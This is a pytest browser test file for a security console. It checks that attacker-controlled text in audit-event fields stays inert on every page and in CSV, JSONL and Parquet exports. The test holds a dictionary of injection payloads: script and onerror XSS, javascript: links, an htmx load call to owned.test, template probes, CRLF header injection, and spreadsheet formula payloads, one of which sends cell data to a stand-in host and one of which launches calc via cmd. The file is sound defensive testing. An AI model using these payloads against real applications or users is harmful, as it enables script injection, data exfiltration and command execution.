"""What an attacker can write, in every field they control, on every page that shows it, in a real browser: it stays text. Nothing
runs, nothing is asked of anybody, no element is made; and no exported file starts a formula."""

import csv
import io
import json
from urllib.parse import quote

import pyarrow.parquet
import pytest
import sqlalchemy

from anomaly.rights import Role
from anomaly.testing import raw_event
from tests.anomaly.kept import NOON
from tests.anomaly.web.running import Sender, event_list

pytestmark = pytest.mark.browser

MARK = "data-owned"
HOSTILE = {
    "script": f"<script {MARK}>alert('owned')</script>",
    "image": f'"><img {MARK} src=http://owned.test/x onerror="alert(\'owned\')">',
    "attribute": f"x' onmouseover='alert(1)' {MARK}='",
    "svg": f"</td></table></svg><svg {MARK}><a href='javascript:alert(1)'>click</a></svg>",
    "scheme": "javascript:alert('owned')//",
    "template": "{{7*191}}${7*191}#{7*191}<%= 7*191 %>",
    "formula": '=HYPERLINK("http://owned.test?"&A1,"look")',
    "formula too": "@SUM(1+9)*cmd|'/C calc'!A0",
    "backwards": "admin\u202egpj.exe\u2066\u200b",
    "lines": "first\r\nSet-Cookie: owned=1\r\n\r\n<b>second</b>",
    "long": "w" * 4_000 + "end",
    "htmx": f'<div hx-get="http://owned.test/" hx-trigger="load" {MARK}></div>',
}
"""One a kind of attack; each is put into every field there is."""
FIELDS = ("by", "agent", "address", "namespace", "name", "uri", "audit_id", "acting_as")


def event_of(text, number, **more):
    return raw_event(
        "pods/exec", "create", groups=[text, "system:authenticated"], annotations={text: text}, extra={text: [text]},
        body={"command": [text]}, level="RequestResponse", code=101, at=NOON,
        **{field: f"/{number}{text}" if field == "uri" else text for field in FIELDS}, **more,
    )  # fmt: skip


@pytest.fixture(scope="module")
def attacked(console):
    """A cluster to which every hostile text came in every field, and the addresses of all pages on which they show."""
    sender = Sender(console.database, console.service, console.cluster())
    for number, text in enumerate(HOSTILE.values()):
        sender.send(event_list(event_of(text, number)))
    name = sender.name
    made = [
        console.keep(
            by=text, title=text, reason=text, normal=text, cluster=name, details={"group": {text: text}, text: text}, attack=(text[:40],),
            contributions=[{"feature": text, "title": text, "unit": text, "value": 1.0, "usual": 0.0, "peers": None, "share": 1.0}],
        )
        for text in HOSTILE.values()
    ]  # fmt: skip
    with console.database.begin() as connection:
        found = connection.execute(
            sqlalchemy.text("SELECT id FROM anomaly.finding WHERE kind = 'rule' AND cluster_id = :id"),
            {"id": sender.id},
        ).scalars()
        rules = list(found)
    assert len(rules) >= len(HOSTILE)
    columns = "time,cluster,user,as,verb,resource,namespace,name,code,address,agent,latency,size,stage"
    here = f"cluster={name}&span=all"
    _, secret = console.person("reader")
    headers = {"Cookie": f"anomaly={secret}", "Accept": "application/json", "Authorization": ""}
    del headers["Authorization"]
    events = console.service.ask("GET", f"/v1/events?q=cluster:{name}%20time:-3650d", headers=headers)[1]
    assert len(events["items"]) == len(HOSTILE)
    paths = [
        f"/?{here}", f"/?{here}&tab=all&sort=newest", f"/dashboard?{here}", f"/entities?{here}", f"/events?{here}&cols={columns}",
        f"/clusters/{name}", "/clusters", "/doctor", f"/rules/exec-into-pod?cluster={name}", "/rules",
    ]  # fmt: skip
    paths += [f"/findings/{one}" for one in (*made, *rules)]
    paths += [f"/entities/{name}/{quote(text, safe='')}?span=all" for text in HOSTILE.values()]
    paths += [f"/events?{here}&q={quote(text[:200], safe='')}" for text in HOSTILE.values()]
    paths += [
        f"/events?{here}&q={quote('user:' + json.dumps(text[:200]), safe='')}" for text in HOSTILE.values()
    ]
    return name, paths


def made_of_it(page):
    """What the page holds that no page of ours may hold, and the links that lead out of it."""
    return page.evaluate(
        """mark => [
          ...document.querySelectorAll(`[${mark}], main img, main script, main iframe, main object, main style, main [style], main base, main meta`),
          ...[...document.querySelectorAll("main *")].filter((one) => [...one.attributes].some((each) => each.name.startsWith("on"))),
          ...[...document.querySelectorAll("a[href], form[action]")].filter((one) => new URL(one.href ?? one.action, location).origin !== location.origin),
          ...[...document.querySelectorAll("[hx-get], [hx-post]")].filter((one) => !(one.getAttribute("hx-get") ?? one.getAttribute("hx-post")).startsWith("/")),
        ].map((one) => one.outerHTML.slice(0, 200))""",
        MARK,
    )


@pytest.mark.parametrize("width", [1280, 390])
def test_hostile_text_stays_text_on_every_page_that_shows_it(console, visit, attacked, width):
    seen = visit(console.person("boss", Role.ADMIN), width=width)
    dialogs = []
    seen.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for path in attacked[1]:
        page = seen.open(path)
        seen.settle()
        for fold in page.locator("main details:not(.pick):not(.drop) > summary").all()[:12]:
            fold.click()
        for opener in page.locator("[data-row] [data-open]").all()[:4]:
            opener.click()
        seen.settle()
        assert made_of_it(page) == [], path
        text = page.locator("main").inner_text()
        assert "1337" not in text.replace("7*191", ""), path
        assert not {"\u202e", "\u2066", "\u200b"} & set(text), path
        assert page.evaluate("document.documentElement.scrollWidth") <= width, path
        assert page.evaluate("document.cookie").find("owned") < 0
    assert dialogs == []
    assert {one["name"] for one in seen.context.cookies()} <= {"anomaly", "anomaly_zone", "anomaly_theme", "anomaly_language"}  # fmt: skip


def test_suggestions_of_hostile_values_are_text_and_find_what_they_name(console, visit, attacked):
    seen = visit(console.person("erika"))
    page = seen.open(f"/events?cluster={attacked[0]}&span=all")
    for typed in ("user:<", 'user:"', "agent:<", "namespace:=", "name:javascript"):
        page.locator("#q").fill("")
        page.locator("#q").press_sequentially(typed)
        page.locator("#suggestions li").first.wait_for()
        assert made_of_it(page) == [], typed
        assert page.locator("#suggestions *:not(li, bdi, span)").count() == 0


def exported(console, name, form):
    _, secret = console.person("reader")
    headers = {"Cookie": f"anomaly={secret}"}
    path = f"/events/export?cluster={name}&span=all&form={form}"
    connection = console.service.connect()
    try:
        connection.request("GET", path, headers=headers)
        answer = connection.getresponse()
        body = answer.read()
        assert answer.status == 200
        assert answer.headers["Content-Disposition"].startswith("attachment; ")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        return body
    finally:
        connection.close()


def test_no_cell_of_an_exported_table_begins_a_formula_or_a_row_of_its_own(console, attacked):
    rows = list(csv.DictReader(io.StringIO(exported(console, attacked[0], "csv").decode(), newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert not [cell for cell in row.values() if cell[:1] in {"=", "+", "@", "\t", "\r", "-"}]
    assert any("HYPERLINK" in row["user"] for row in rows)


def test_exports_for_programs_hold_exactly_what_came(console, attacked):
    lines = [json.loads(line) for line in exported(console, attacked[0], "jsonl").splitlines()]
    assert {line["user"]["username"] for line in lines} == set(HOSTILE.values())
    table = pyarrow.parquet.read_table(io.BytesIO(exported(console, attacked[0], "parquet")))
    assert table.num_rows == len(HOSTILE)
    assert {HOSTILE["script"], HOSTILE["formula"]} <= set(table.column("user").to_pylist())
